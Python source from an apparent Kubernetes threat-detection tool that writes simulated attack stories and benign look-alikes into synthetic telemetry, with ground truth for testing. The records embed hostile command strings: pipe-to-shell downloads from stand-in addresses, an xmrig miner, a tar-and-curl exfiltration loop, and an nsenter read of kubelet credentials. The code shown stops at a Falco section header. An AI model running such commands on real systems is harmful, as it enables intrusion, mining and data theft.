"""Attack stories planted in a simulated cluster, with the ground truth to check kubetrail's answers.

`write_stories` writes, next to the background outputs of `kubetrail simulate`, the records of a
few stories in the producers' own formats (the shapes of the hand-made fixtures under
tests/fixtures/stories), each on pods of the model alive at the story's time, with their real
names, uids, nodes, containers, images and IPs, and each node's sensors stamping their records
with that node's clock (`Node.stamp`). Attacks:

- exec-miner: the developer `kubectl exec`s a shell into a Deployment's pod; the shell fetches a
  script, backgrounds a miner with nohup, and the miner (started after the session ended)
  resolves and connects to its pool. Audit, Tetragon, Falco and Hubble records.
- stolen-token: a pod's bound service-account token used from another pod's address: a rules
  review, a denied list of kube-system's Secrets, and a ClusterRoleBinding created. Audit records,
  and the other pod's connection to the API server in Hubble.
- http-exploit: an HTTP request (an OTLP server span with its route and `enduser.id`) makes a
  serving app run `sh -c "curl … | sh"`; the fetched script uses the pod's token to list every
  namespace's Secrets (denied). OTLP, Tetragon, Hubble and audit records.
- privileged-pod: the CI deployer's token creates a privileged pod with the node's root mounted
  and hostPID, whose command nsenters the node to read the kubelet's credentials. Audit (with the
  pod body) and Tetragon records.
- slow-exfil: an app pod sends data to a never-before-seen external domain every ~10 minutes for
  an hour, each time after a DNS lookup. Tetragon and Hubble records.
- backdoored-image: the planned release of one of our apps (`Cluster.release`) ships an image
  whose app, in every replica of the new ReplicaSet (and the replicas that replace them), calls
  home every ~5 minutes with a beacon's ±20 % jitter: a lookup of a new domain behind a CDN (one
  of three addresses per answer) and a connection from the app's main process. No other workload
  and no earlier version reaches the domain. Tetragon and Hubble records. The replicas are one
  story, to be found as one incident: its pod in the ground truth is the replica that called home
  longest, its other pods in `details.pods`.

Benign look-alikes (not attacks): the SRE `kubectl exec`s `cat /etc/os-release` into a pod; a CI
job installs packages from a package mirror it never used before (one burst); an operator lists
the Secrets of its own namespace.

`.ground-truth.json` says what kubetrail should find. Everything is drawn from the seed alone.
"""

from __future__ import annotations

import json
import random
from base64 import b64encode
from collections.abc import Callable
from pathlib import Path
from typing import Any, Final, NamedTuple
from urllib.parse import urlencode

import orjson

from kubetrail.simulate.audit import (
    _FORBID,
    PODS,
    SECRETS,
    _go_escape,
    _human,
    _pod_client,
    _timestamp,
    _Who,
    _whole_seconds,
    _with_optional,
)
from kubetrail.simulate.clock import rfc3339_ns, second
from kubetrail.simulate.cluster import DAY, MINUTE, NS, Cluster, Node, Pod, random_name, uuid4
from kubetrail.simulate.network import SERVER, Endpoints, _i, _s, _span, flow_record, otlp_resource, resource_spans
from kubetrail.simulate.runtime import _MAINS, _clock, _Cmd, _image_ref, tetragon_pod

Json = dict[str, Any]

MS: Final = 1_000_000
AUDIT: Final = "story-audit.log"
TETRAGON: Final = "story-tetragon.jsonl"
FALCO: Final = "story-falco.json"
HUBBLE: Final = "story-hubble.json"
OTLP: Final = "story-otlp-traces.jsonl"
FILES: Final = (AUDIT, TETRAGON, FALCO, HUBBLE, OTLP)
GROUND_TRUTH: Final = ".ground-truth.json"  # hidden: ingesting the folder reads only telemetry
_API_VERSION: Final = "audit.k8s.io/v1"
_AUID_UNSET: Final = 4294967295
_POLICY: Final = "monitor-network-activity"
_TTY: Final = 34816  # /dev/pts/0
_WORLD: Final[Json] = {"identity": 2, "labels": ["reserved:world"]}
_API_SERVER: Final[Json] = {"identity": 7, "labels": ["reserved:kube-apiserver"]}
_API_SERVER_IP: Final = "10.96.0.1"
_APPS: Final = ("shop", "payments")
_DNS: Final = "kube-system/coredns"
_ATTACKER_AGENT: Final = "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350"
_SHELL_TAGS: Final = ("T1059", "container", "maturity_stable", "mitre_execution", "shell")
# The routes an exploited app serves (see network._ROUTES), by workload.
_SERVED: Final = {"shop/frontend": ("POST", "/cart"), "shop/cart": ("POST", "/api/v1/cart/{userId}/items"),
                  "payments/payments-api": ("POST", "/v1/payments")}  # fmt: skip
_EXFIL_CONNECTIONS: Final = 7
_EXFIL_EVERY: Final = 10 * MINUTE
_BEACON_EVERY: Final = 5 * MINUTE
_BEACON_JITTER: Final = 0.2  # of the period, either way, as implants' sleep settings have it
_LETTERS: Final = "abcdefghijklmnopqrstuvwxyz"


class _Where(NamedTuple):
    """Where a process runs: the node, the pod block Tetragon prints, the pod's IP, the key of its shim."""

    node: Node
    pod: Json
    docker: str
    ip: str
    key: str
    start_ns: int


def write_stories(out_dir: Path, cluster: Cluster, seed: int) -> dict[str, int]:
    """Write the stories' records and `.ground-truth.json` into `out_dir`; returns lines per file."""
    writer = _Stories(cluster, random.Random(f"kubetrail-stories:{seed}"))
    writer.run()
    counts: dict[str, int] = {}
    for name in FILES:
        lines = [line for _, _, line in sorted(writer.lines[name])]
        (out_dir / name).write_bytes(b"".join(lines))
        counts[name] = len(lines)
    truth = {"cluster": cluster.name, "stories": writer.stories, "benign": writer.benign}
    (out_dir / GROUND_TRUTH).write_text(json.dumps(truth, indent=2) + "\n")
    counts[GROUND_TRUTH] = len(writer.stories) + len(writer.benign)
    return counts


class _Stories:
    def __init__(self, cluster: Cluster, rng: random.Random) -> None:
        self.cluster, self.rng = cluster, rng
        self.lines: dict[str, list[tuple[int, int, bytes]]] = {name: [] for name in FILES}
        self.made = 0
        self.boot = {n.name: cluster.start_ns - int(rng.uniform(3, 40) * DAY) for n in cluster.nodes}
        self.pids = {n.name: rng.randrange(20_000, 40_000) for n in cluster.nodes}
        self.shims: dict[str, Json] = {}  # pod uid -> its containerd-shim's process
        self.endpoints = Endpoints(cluster, rng)
        self.used: set[str] = set()  # uids of pods a story already took
        self.accounts: set[str] = set()  # service accounts a story already acted as
        self.external: set[str] = {h.source_ip for h in cluster.humans}  # addresses taken outside the cluster
        self.stories: list[Json] = []
        self.benign: list[Json] = []
        self.developer = next(h for h in cluster.humans if "developers" in h.groups)
        self.sre = next(h for h in cluster.humans if "sre" in h.groups)

    def run(self) -> None:
        # Each story in its own part of the period. Stories on other pods and accounts stay separate
        # incidents wherever they fall; those on one account (the developer's, the SRE's) lie an
        # hour or more apart in a period of three hours or more.
        plans: tuple[tuple[Callable[[int, int], None], float, float], ...] = (
            (self._backdoored_image, 0, 1),  # first: its pods are the release's, taken before others choose
            (self._exec_miner, 0, 1 / 3), (self._stolen_token, 1 / 3, 2 / 3), (self._benign_exec, 2 / 3, 1),
            (self._http_exploit, 1 / 6, 1 / 2), (self._privileged_pod, 1 / 2, 5 / 6), (self._slow_exfil, 1 / 4, 1),
            (self._ci_mirror, 0, 1 / 2), (self._operator_secrets, 1 / 2, 1),
        )  # fmt: skip
        start, span = self.cluster.start_ns, self.cluster.end_ns - self.cluster.start_ns
        for plan, lo, hi in plans:
            plan(start + int(span * lo), start + int(span * hi))

    # -- output

    def _add(self, name: str, printed: int, record: Json) -> None:
        """A record, `printed`: its time as its producer's clock read it (the order of the file)."""
        line = orjson.dumps(record, option=orjson.OPT_APPEND_NEWLINE)
        if name == AUDIT:
            line = _go_escape(line)
        self.lines[name].append((printed, self.made, line))
        self.made += 1

    # -- choosing where and when

    def _time(self, lo: int, hi: int) -> int:
        """A time in the middle of [lo, hi), on a whole millisecond."""
        quarter = (hi - lo) // 4
        return int(self.rng.uniform(lo + quarter, hi - quarter)) // MS * MS

    def _pod(self, t: int, ok: Callable[[Pod], bool], before: int = MINUTE, after: int = 10 * MINUTE) -> Pod | None:
        alive = [p for p in self.cluster.pods if p.alive(t - before) and p.alive(t + after) and p.uid not in self.used and ok(p)]
        return self.rng.choice(alive) if alive else None

    def _place(self, lo: int, hi: int, ok: Callable[[Pod], bool], after: int = 10 * MINUTE) -> tuple[int, Pod] | None:
        for _ in range(50):
            t = self._time(lo, hi)
            pod = self._pod(t, ok, after=after)
            if pod is not None:
                self.used.add(pod.uid)
                return t, pod
        return None

    def _outside(self, prefix: str) -> str:
        """An address outside the cluster no story or person uses yet."""
        while (ip := f"{prefix}.{self.rng.randrange(2, 250)}") in self.external:
            pass
        self.external.add(ip)
        return ip

    def _domain(self, head: str, tld: str) -> str:
        return f"{head}.{''.join(self.rng.choices(_LETTERS, k=self.rng.randrange(5, 9)))}.{tld}"

    def _story(self, name: str, start: int, end: int, pod: str, user: str | None, severity: str,
               techniques: list[str], new_external: list[str], details: Json) -> None:  # fmt: skip
        expected = {"incident_min_severity": severity, "initiator_user": user, "techniques_any_of": techniques,
                    "new_external": new_external}  # fmt: skip
        self.stories.append({"name": name, "start": rfc3339_ns(start), "end": rfc3339_ns(end), "pod": pod, "user": user,
                             "expected": expected, "event_ids": [], "details": details})  # fmt: skip

    def _look_alike(self, name: str, start: int, end: int, pod: str, user: str | None) -> None:
        self.benign.append({"name": name, "start": rfc3339_ns(start), "end": rfc3339_ns(end), "pod": pod, "user": user,
                            "expected": {"incident_max_severity": "medium"}, "event_ids": []})  # fmt: skip

    # -- the stories

    def _exec_miner(self, lo: int, hi: int) -> None:
        placed = self._place(lo, hi, lambda p: _app(p) and p.namespace == "shop" and p.workload.kind == "Deployment")
        if placed is None:
            return
        t0, pod = placed
        rng, user, where = self.rng, self.developer, self._where(pod)
        container = pod.containers[0]
        pool = self._domain("pool", "net")
        pool_ip, drop_ip = self._outside("198.51.100"), self._outside("203.0.113")
        session = int(rng.uniform(45, 90) * NS)
        ids: list[str] = []

        query = urlencode(
            [("command", "sh"), ("container", container.name), ("stdin", "true"), ("stdout", "true"), ("tty", "true")]
        )
        uri = f"{PODS.path(pod.namespace)}/{pod.name}/exec?{query}"
        ref = PODS.ref(pod.namespace, pod.name, sub="exec")
        ids.append(self._audit(t0, _human(user), "create", uri, ref, {"metadata": {}, "code": 101}, lasts=session))
        shell_t = t0 + int(rng.uniform(250, 350) * MS)
        ids.append(self._falco_shell(shell_t, pod, container.name))
        runc = self._runc(where, container.container_id, t0 + int(rng.uniform(80, 150) * MS))
        sh = self._exec(where, 0, "/bin/sh", "", shell_t, runc, cwd="/")
        curl_t = shell_t + int(rng.uniform(5, 15) * NS)
        self._exec(where, 0, "/usr/bin/curl", f"-fsSL http://{drop_ip}/x.sh -o /tmp/x.sh", curl_t, sh, cwd="/")
        nohup_t = curl_t + int(rng.uniform(5, 15) * NS)
        nohup = self._exec(where, 0, "/usr/bin/nohup", f"/tmp/xmrig -o {pool}:3333", nohup_t, sh, cwd="/")
        miner_t = t0 + session + int(rng.uniform(10, 40) * NS)  # after the session ended
        miner = self._exec(where, 0, "/tmp/xmrig", f"-o {pool}:3333", miner_t, nohup, cwd="/")
        ids.extend(b["exec_id"] for b in (sh, miner))

        answer_t = miner_t + int(rng.uniform(20, 80) * MS)
        self._lookup(answer_t, pod, pool + ".", pool_ip)
        connect_t = answer_t + int(rng.uniform(1, 5) * MS)
        sport = rng.randrange(32768, 61000)
        self._kprobe(connect_t, where, miner, nohup, pool_ip, sport, 3333)
        self._connect(connect_t + 50_000, pod, None, pool_ip, 3333, sport)
        self._story("exec-miner", t0, connect_t + 50_000, f"{pod.namespace}/{pod.name}", user.username, "high",
                    ["T1059", "T1609", "T1041"], [pool_ip],
                    {"pool": pool, "pool_ip": pool_ip, "download_ip": drop_ip, "exec_ids": ids[2:]})  # fmt: skip

    def _stolen_token(self, lo: int, hi: int) -> None:
        placed = self._place(lo, hi, lambda p: _app(p) and bool(p.tokens))
        if placed is None:
            return
        t0, victim = placed
        thief = self._pod(t0, lambda p: p.uid != victim.uid and not p.workload.host_network and p.ip != victim.ip)
        if thief is None:
            return
        rng = self.rng
        self._connect(t0 - int(rng.uniform(5, 50) * MS), thief, None, _API_SERVER_IP, 443, rng.randrange(32768, 61000),
                      dst=_API_SERVER)  # fmt: skip
        _, own = _pod_client(victim, t0)
        self.accounts.add(own.user["username"])
        who = _Who(own.user, [thief.ip], _ATTACKER_AGENT, own.allow)
        basic = {"authorization.k8s.io/decision": "allow",
                 "authorization.k8s.io/reason": 'RBAC: allowed by ClusterRoleBinding "system:basic-user" of ClusterRole '
                                                '"system:basic-user" to Group "system:authenticated"'}  # fmt: skip
        t = t0
        review = {"resource": "selfsubjectrulesreviews", "apiGroup": "authorization.k8s.io", "apiVersion": "v1"}
        self._audit(t, who._replace(allow=basic), "create", "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews",
                    review, {"metadata": {}, "code": 201})  # fmt: skip
        t += int(rng.uniform(2, 8) * NS)
        username = own.user["username"]
        message = (f'secrets is forbidden: User "{username}" cannot list resource "secrets" in API group "" '
                   f'in the namespace "kube-system"')  # fmt: skip
        self._audit(t, who._replace(allow=_FORBID), "list", f"{SECRETS.path('kube-system')}?limit=500",
                    SECRETS.ref("kube-system"), _forbidden(message))  # fmt: skip
        t += int(rng.uniform(5, 20) * NS)
        name = f"{victim.workload.name}-admin-{''.join(rng.choices(_LETTERS + '0123456789', k=5))}"
        ref = {"resource": "clusterrolebindings", "name": name, "apiGroup": "rbac.authorization.k8s.io", "apiVersion": "v1"}
        self._audit(t, who, "create", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?fieldManager=kubectl-create",
                    ref, {"metadata": {}, "code": 201})  # fmt: skip
        self._story("stolen-token", t0, t, f"{victim.namespace}/{victim.name}", username, "high",
                    ["T1528", "T1098", "T1613", "T1087"], [],
                    {"source_ip": thief.ip, "source_pod": f"{thief.namespace}/{thief.name}", "binding": name})  # fmt: skip

    def _benign_exec(self, lo: int, hi: int) -> None:
        placed = self._place(lo, hi, lambda p: _app(p) and p.workload.kind == "Deployment")
        if placed is None:
            return
        t0, pod = placed
        rng, user, where = self.rng, self.sre, self._where(pod)
        container = pod.containers[0]
        query = urlencode([("command", "cat"), ("command", "/etc/os-release"), ("container", container.name),
                           ("stderr", "true"), ("stdout", "true")])  # fmt: skip
        uri = f"{PODS.path(pod.namespace)}/{pod.name}/exec?{query}"
        ref = PODS.ref(pod.namespace, pod.name, sub="exec")
        lasts = int(rng.uniform(0.4, 1.5) * NS)
        self._audit(t0, _human(user), "get", uri, ref, {"metadata": {}, "code": 101}, lasts=lasts)
        runc = self._runc(where, container.container_id, t0 + int(rng.uniform(80, 150) * MS))
        cat_t = t0 + int(rng.uniform(200, 350) * MS)
        self._exec(where, 0, "/bin/cat", "/etc/os-release", cat_t, runc, cwd="/")
        self._look_alike("sre-exec-cat", t0, t0 + lasts, f"{pod.namespace}/{pod.name}", user.username)

    def _http_exploit(self, lo: int, hi: int) -> None:
        def serving(p: Pod) -> bool:  # an app serving requests, its token not a story's yet
            return p.workload.key in _SERVED and bool(p.tokens) and p.workload.service_account.username not in self.accounts

        placed = self._place(lo, hi, serving)
        if placed is None:
            return
        t0, pod = placed
        rng, where = self.rng, self._where(pod)
        ingress = self._pod(t0, lambda p: p.workload.key == "ingress-nginx/ingress-nginx-controller", before=0, after=MINUTE)
        _, own = _pod_client(pod, t0)
        self.accounts.add(own.user["username"])
        end_user = f"customer-{rng.randrange(10_000, 99_999)}"  # as the background's end users are named
        drop_ip = self._outside("203.0.113")
        method, route = _SERVED[pod.workload.key]
        trace_id, span_id = f"{rng.getrandbits(128):032x}", f"{rng.getrandbits(64):016x}"
        span_end = t0 + int(rng.uniform(3.5, 5) * NS)

        main = self._main(where, pod)
        sh_t = t0 + int(rng.uniform(1.0, 1.5) * NS)
        sh = self._exec(where, main["uid"], "/bin/sh", f'-c "curl -s http://{drop_ip}/k.sh | sh"', sh_t, main, cwd="/")
        fetch_t = sh_t + int(rng.uniform(5, 20) * MS)
        fetch = self._exec(where, main["uid"], "/usr/bin/curl", f"-s http://{drop_ip}/k.sh", fetch_t, sh, cwd="/")
        script = self._exec(where, main["uid"], "/bin/sh", "", fetch_t + int(rng.uniform(0.2, 1) * MS), sh, cwd="/")
        sport = rng.randrange(32768, 61000)
        self._kprobe(fetch_t + 2 * MS, where, fetch, sh, drop_ip, sport, 80)
        self._connect(fetch_t + 2 * MS + 40_000, pod, None, drop_ip, 80, sport)
        steal_t = fetch_t + int(rng.uniform(300, 700) * MS)
        steal = self._exec(where, main["uid"], "/usr/bin/curl", f"-sk -H @/tmp/.h https://{_API_SERVER_IP}/api/v1/secrets",
                           steal_t, script, cwd="/")  # fmt: skip
        sport = rng.randrange(32768, 61000)
        self._kprobe(steal_t + 2 * MS, where, steal, script, _API_SERVER_IP, sport, 443)
        self._connect(steal_t + 2 * MS + 40_000, pod, None, _API_SERVER_IP, 443, sport, dst=_API_SERVER)
        username = own.user["username"]
        message = f'secrets is forbidden: User "{username}" cannot list resource "secrets" in API group "" at the cluster scope'
        call_t = steal_t + int(rng.uniform(10, 30) * MS)
        self._audit(call_t, _Who(own.user, [pod.ip], "curl/8.5.0", _FORBID), "list", SECRETS.path(), SECRETS.ref(),
                    _forbidden(message))  # fmt: skip

        attributes = [_s("http.request.method", method), _s("http.route", route),
                      _s("url.path", route.replace("{userId}", end_user)), _s("url.scheme", "http"),
                      _i("http.response.status_code", 200), _s("client.address", ingress.ip if ingress else "10.0.0.10"),
                      _s("user_agent.original", "python-requests/2.32.3"), _s("enduser.id", end_user)]  # fmt: skip
        span = _span(trace_id, span_id, None, f"{method} {route}", SERVER, where.node.stamp(t0), where.node.stamp(span_end),
                     attributes)  # fmt: skip
        self._add(OTLP, where.node.stamp(t0), {"resourceSpans": [resource_spans(pod, otlp_resource(pod), [span])]})
        self._story("http-exploit", t0, span_end, f"{pod.namespace}/{pod.name}", end_user, "high",
                    ["T1105", "T1059.004", "T1552.007"], [],
                    {"trace_id": trace_id, "route": route, "download_ip": drop_ip, "service_account": username})  # fmt: skip

    def _privileged_pod(self, lo: int, hi: int) -> None:
        placed = self._place(lo, hi, lambda p: p.workload.key == "ci/runner" and bool(p.tokens))
        if placed is None:
            return
        t0, runner = placed
        rng = self.rng
        _, own = _pod_client(runner, t0)
        self.accounts.add(own.user["username"])
        node = rng.choice(self.cluster.nodes)
        name, uid = f"buildkit-{random_name(rng, 5)}", uuid4(rng)
        container_id, image = f"{rng.getrandbits(256):064x}", "docker.io/library/alpine:3.20"
        command = ["nsenter", "--target", "1", "--mount", "--uts", "--ipc", "--net", "--pid", "--",
                   "bash", "-c", "cat /var/lib/kubelet/kubeconfig; crictl ps -q"]  # fmt: skip
        request, response = _privileged_bodies(runner.namespace, name, uid, node.name, image, command, t0)
        ref = PODS.ref(runner.namespace, name)
        self._audit(t0, own, "create", f"{PODS.path(runner.namespace)}?fieldManager=kubectl-create", ref,
                    {"metadata": {}, "code": 201}, bodies=(request, response))  # fmt: skip

        started = t0 + int(rng.uniform(3, 8) * NS)  # the image pulled, the sandbox up
        pod_block: Json = {
            "namespace": runner.namespace,
            "name": name,
            "container": {
                "id": f"containerd://{container_id}",
                "name": "buildkit",
                "image": {"id": _image_ref(image), "name": image},
                "start_time": f"{second(node.stamp(started) // NS)}Z",
                "pid": 1,
            },
            "workload": name,
            "workload_kind": "Pod",
        }
        where = _Where(node, pod_block, container_id[:31], "", uid, started - 200 * MS)
        enter = self._exec(where, 0, "/usr/bin/nsenter", " ".join(command[1:10]) + ' -c "' + command[-1] + '"', started,
                           self._shim(where), cwd="/")  # fmt: skip
        bash_t = started + int(rng.uniform(2, 6) * MS)
        bash = self._exec(where, 0, "/usr/bin/bash", f'-c "{command[-1]}"', bash_t, enter, cwd="/root")
        self._exec(
            where, 0, "/usr/bin/cat", "/var/lib/kubelet/kubeconfig", bash_t + int(rng.uniform(1, 3) * MS), bash, cwd="/root"
        )
        done = bash_t + int(rng.uniform(20, 60) * MS)
        self._exec(where, 0, "/usr/local/bin/crictl", "ps -q", done, bash, cwd="/root")
        self._story("privileged-pod", t0, done, f"{runner.namespace}/{name}", own.user["username"], "high", ["T1611"], [],
                    {"created_by_pod": f"{runner.namespace}/{runner.name}", "node": node.name})  # fmt: skip

    def _slow_exfil(self, lo: int, hi: int) -> None:
        rng = self.rng
        every = min(_EXFIL_EVERY, (hi - lo) // (_EXFIL_CONNECTIONS + 2))
        lasts = every * (_EXFIL_CONNECTIONS - 1)

        def deployed(p: Pod) -> bool:
            return _app(p) and p.workload.kind == "Deployment"

        # Early in the period; failing that (no pod there lives long enough), anywhere it still fits.
        placed = self._place(lo, lo + 2 * every, deployed, after=lasts + MINUTE)
        placed = placed or self._place(lo, hi - lasts - MINUTE, deployed, after=lasts + MINUTE)
        if placed is None:
            return
        t0, pod = placed
        where = self._where(pod)
        domain, ip = self._domain("sync", "io"), self._outside("198.51.100")
        main = self._main(where, pod)
        uid = main["uid"]
        loop = self._exec(where, uid, "/bin/sh", f'-c "while :; do tar cz /srv/data | curl -s -T - https://{domain}/u; '
                                                 f'sleep {every // NS}; done"', t0 - int(rng.uniform(5, 30) * NS), main,
                          cwd="/srv")  # fmt: skip
        first = last = t0
        for i in range(_EXFIL_CONNECTIONS):
            t = t0 + i * every + int(rng.uniform(-0.03, 0.03) * every)
            self._exec(where, uid, "/bin/tar", "cz /srv/data", t, loop, cwd="/srv")
            curl = self._exec(where, uid, "/usr/bin/curl", f"-s -T - https://{domain}/u", t + int(rng.uniform(1, 3) * MS),
                              loop, cwd="/srv")  # fmt: skip
            answer_t = t + int(rng.uniform(5, 30) * MS)
            self._lookup(answer_t, pod, domain + ".", ip)
            sport = rng.randrange(32768, 61000)
            last = answer_t + int(rng.uniform(1, 3) * MS)
            first = last if i == 0 else first
            self._kprobe(last, where, curl, loop, ip, sport, 443)
            self._connect(last + 40_000, pod, None, ip, 443, sport)
        self._story("slow-exfil", first, last, f"{pod.namespace}/{pod.name}", None, "high", ["T1029", "T1041", "T1567"], [ip],
                    {"domain": domain, "ip": ip, "every_s": every // NS})  # fmt: skip

    def _backdoored_image(self, lo: int, hi: int) -> None:
        """Every pod of the release's ReplicaSet calls home from its start to its end (`lo`, `hi`: the period)."""
        release, rng = self.cluster.release, self.rng
        if release is None:
            return
        pods = [p for p in self.cluster.pods if p.revision is release and p.start_ns < hi]
        self.used.update(p.uid for p in pods)
        domain = self._domain("cdn", "com")
        ips = [self._outside("198.51.100") for _ in range(3)]
        called: dict[str, list[int]] = {}
        for pod in pods:
            where = self._where(pod)
            main = self._main(where, pod)
            stop = min(pod.end_ns if pod.end_ns is not None else hi, hi - MINUTE) - NS
            t = max(pod.start_ns, lo) + int(rng.uniform(20, 90) * NS)
            while t < stop:
                ip = rng.choice(ips)
                self._lookup(t, pod, domain + ".", ip)
                connect = t + int(rng.uniform(1, 5) * MS)
                sport = rng.randrange(32768, 61000)
                self._kprobe(connect, where, main, self._shim(where), ip, sport, 443)
                self._connect(connect + 40_000, pod, None, ip, 443, sport)
                called.setdefault(f"{pod.namespace}/{pod.name}", []).append(connect)
                t += int(_BEACON_EVERY * rng.uniform(1 - _BEACON_JITTER, 1 + _BEACON_JITTER))
        if not called:
            return
        story_pod, times = max(called.items(), key=lambda kv: (len(kv[1]), kv[0]))
        image = release.images[0][1]
        self._story("backdoored-image", times[0], times[-1], story_pod, None, "high", ["T1029", "T1041"], sorted(ips),
                    {"domain": domain, "ips": sorted(ips), "workload": release.workload.key, "replicaset": release.owner_name,
                     "image": image, "every_s": _BEACON_EVERY // NS,
                     "pods": {p: [rfc3339_ns(ts[0]), rfc3339_ns(ts[-1])] for p, ts in sorted(called.items())}})  # fmt: skip

    def _ci_mirror(self, lo: int, hi: int) -> None:
        placed = self._place(lo, hi, lambda p: p.workload.key == "ci/runner")
        if placed is None:
            return
        t0, pod = placed
        rng, where = self.rng, self._where(pod)
        mirror, ip = self._domain("pypi", "dev"), self._outside("192.0.2")
        main = self._main(where, pod)
        args = f"install --index-url https://{mirror}/simple/ -r requirements.txt"
        pip = self._exec(where, main["uid"], "/usr/local/bin/pip", args, t0, main, cwd="/workspace")
        t = t0 + int(rng.uniform(100, 400) * MS)
        self._lookup(t, pod, mirror + ".", ip)
        for _ in range(rng.randrange(3, 6)):  # the index, then packages: one burst
            t += int(rng.uniform(0.5, 6) * NS)
            sport = rng.randrange(32768, 61000)
            self._kprobe(t, where, pip, main, ip, sport, 443)
            self._connect(t + 40_000, pod, None, ip, 443, sport)
        self._look_alike("ci-new-mirror", t0, t, f"{pod.namespace}/{pod.name}", None)

    def _operator_secrets(self, lo: int, hi: int) -> None:
        placed = self._place(lo, hi, lambda p: p.workload.key == "monitoring/prometheus-operator" and bool(p.tokens))
        if placed is None:
            return
        t0, pod = placed
        _, own = _pod_client(pod, t0)
        ns = pod.namespace
        uri = f"{SECRETS.path(ns)}?labelSelector=managed-by%3Dprometheus-operator&limit=500"
        self._audit(t0, own, "list", uri, SECRETS.ref(ns), {"metadata": {}, "code": 200})
        t = t0 + int(self.rng.uniform(0.05, 0.5) * NS)
        name = "alertmanager-main-generated"
        self._audit(t, own, "get", f"{SECRETS.path(ns)}/{name}", SECRETS.ref(ns, name), {"metadata": {}, "code": 200})
        self._look_alike("operator-reads-own-secrets", t0, t, f"{ns}/{pod.name}", own.user["username"])

    # -- audit

    def _audit(self, t: int, who: _Who, verb: str, uri: str, ref: Json, status: Json, *, lasts: int = 0,
               bodies: tuple[Json, Json] | None = None) -> str:  # fmt: skip
        audit_id = uuid4(self.rng)
        event: Json = {"kind": "Event", "apiVersion": _API_VERSION, "level": "RequestResponse" if bodies else "Metadata",
                       "auditID": audit_id, "stage": "ResponseComplete", "requestURI": uri, "verb": verb, "user": who.user,
                       "sourceIPs": who.ips, "userAgent": who.agent, "objectRef": ref, "responseStatus": status,
                       "requestReceivedTimestamp": _timestamp(t)}  # fmt: skip
        if bodies is not None:
            event = _with_optional(event, None, bodies)
        done = t + 300_000 + int(self.rng.random() * 9 * MS)
        stages = [("ResponseStarted", done), ("ResponseComplete", t + lasts)] if lasts else [("ResponseComplete", done)]
        for stage, at in stages:
            line = dict(event, stage=stage, stageTimestamp=_timestamp(at), annotations=who.allow)
            self._add(AUDIT, at, line)  # the API server's clock is the model's
        return audit_id

    # -- Tetragon

    def _where(self, pod: Pod) -> _Where:
        container = pod.containers[0]
        block = tetragon_pod(pod, container, max(pod.start_ns + NS, self.cluster.start_ns - DAY))
        return _Where(pod.node, block, container.container_id[:31], pod.ip, pod.uid, pod.start_ns)

    def _exec_id(self, node: Node, t: int, pid: int) -> str:
        return b64encode(f"{node.name}:{t - self.boot[node.name]}:{pid}".encode()).decode()

    def _pid(self, node: Node) -> int:
        pid = self.pids[node.name] = self.pids[node.name] + self.rng.randrange(1, 40)
        return pid

    def _shim(self, where: _Where) -> Json:
        """The pod's containerd-shim: a host process (no pod block), parent of its containers' processes."""
        if where.key not in self.shims:
            t = where.start_ns + int(self.rng.uniform(0.05, 0.3) * NS)
            pid = self._pid(where.node)
            self.shims[where.key] = {
                "exec_id": self._exec_id(where.node, t, pid),
                "pid": pid,
                "uid": 0,
                "cwd": f"/run/containerd/io.containerd.runtime.v2.task/k8s.io/{where.key}",
                "binary": "/usr/bin/containerd-shim-runc-v2",
                "arguments": f"-namespace k8s.io -id {where.key} -address /run/containerd/containerd.sock",
                "flags": "execve clone",
                "start_time": rfc3339_ns(where.node.stamp(t)),
                "auid": _AUID_UNSET,
                "tid": pid,
            }
        return self.shims[where.key]

    def _runc(self, where: _Where, container_id: str, t: int) -> Json:
        """`runc exec` on the host: outside the container (no pod block), child of the pod's shim."""
        shim = self._shim(where)["exec_id"]
        pid = self._pid(where.node)
        block: Json = {
            "exec_id": self._exec_id(where.node, t, pid),
            "pid": pid,
            "uid": 0,
            "cwd": f"/run/containerd/io.containerd.runtime.v2.task/k8s.io/{container_id}",
            "binary": "/usr/bin/runc",
            "arguments": f"--root /run/containerd/runc/k8s.io exec --process /tmp/runc-process{self.rng.randrange(10**8, 10**9)} "
            f"--detach --pid-file /run/containerd/io.containerd.runtime.v2.task/k8s.io/{container_id}/exec.pid {container_id}",
            "flags": "execve clone",
            "start_time": rfc3339_ns(where.node.stamp(t)),
            "auid": _AUID_UNSET,
            "parent_exec_id": shim,
            "tid": pid,
        }
        return block

    def _main(self, where: _Where, pod: Pod) -> Json:
        """The container's main process as Tetragon reports it as a parent (its own exec is before the period)."""
        container = pod.containers[0]
        cmd = _MAINS.get(container.name, _Cmd(f"/{container.name}", ""))
        started = max(pod.start_ns + NS, self.cluster.start_ns - DAY)
        return self._block(where, cmd.uid, cmd.binary, cmd.arguments, started, self._shim(where), cwd="/", pid=1)

    def _block(self, where: _Where, uid: int, binary: str, arguments: str, t: int, parent: Json, *, cwd: str,
               pid: int | None = None) -> Json:  # fmt: skip
        host_pid = self._pid(where.node)
        pod_block = dict(where.pod, container=dict(where.pod["container"], pid=pid or self.rng.randrange(20, 400)))
        block: Json = {
            "exec_id": self._exec_id(where.node, t, host_pid),
            "pid": host_pid,
            "uid": uid,
            "cwd": cwd,
            "binary": binary,
            "arguments": arguments,
            "flags": "execve clone",
            "start_time": rfc3339_ns(where.node.stamp(t)),
            "auid": _AUID_UNSET,
            "pod": pod_block,
            "docker": where.docker,
            "parent_exec_id": parent["exec_id"],
            "tid": host_pid,
        }
        if not arguments:
            del block["arguments"]  # protojson omits empty strings
        return block

    def _exec(self, where: _Where, uid: int, binary: str, arguments: str, t: int, parent: Json, *, cwd: str) -> Json:
        block = self._block(where, uid, binary, arguments, t, parent, cwd=cwd)
        self._tetragon("process_exec", {"process": block, "parent": parent}, where.node, t)
        return block

    def _kprobe(self, t: int, where: _Where, block: Json, parent: Json, daddr: str, sport: int, dport: int) -> None:
        sock = {"family": "AF_INET", "type": "SOCK_STREAM", "protocol": "IPPROTO_TCP", "saddr": where.ip, "daddr": daddr,
                "sport": sport, "dport": dport}  # fmt: skip
        body: Json = {"process": block, "parent": parent, "function_name": "tcp_connect", "args": [{"sock_arg": sock}],
                      "action": "KPROBE_ACTION_POST", "policy_name": _POLICY}  # fmt: skip
        self._tetragon("process_kprobe", body, where.node, t)

    def _tetragon(self, etype: str, body: Json, node: Node, t: int) -> None:
        printed = node.stamp(t)
        self._add(TETRAGON, printed, {etype: body, "node_name": node.name, "time": rfc3339_ns(printed)})

    # -- Falco

